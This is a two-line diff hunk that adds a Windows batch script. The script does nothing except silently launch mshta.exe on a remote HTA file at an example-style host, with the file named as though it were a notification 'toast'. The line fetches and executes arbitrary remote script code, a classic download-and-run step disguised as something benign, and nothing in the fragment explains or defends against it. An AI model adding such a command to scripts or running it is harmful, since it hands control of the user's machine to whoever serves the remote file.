@@ -1,0 +1,2 @@
+@echo off
+mshta https://notify.example.net/toast.hta
